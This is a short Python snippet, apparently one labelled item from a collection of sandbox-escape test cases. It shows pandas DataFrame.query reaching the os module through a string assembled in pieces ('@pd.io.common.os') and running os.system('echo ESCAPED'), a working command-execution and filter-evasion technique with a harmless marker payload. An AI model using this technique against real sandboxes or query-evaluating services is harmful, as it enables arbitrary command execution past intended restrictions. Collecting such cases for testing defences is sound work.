# kind: pandas
# effect: prints ESCAPED
import pandas as pd

df = pd.DataFrame({"a": [0]})
where = ".".join(["@pd", "io", "common", "os"])
df.query("a == " + where + ".system('echo ESCAPED')")
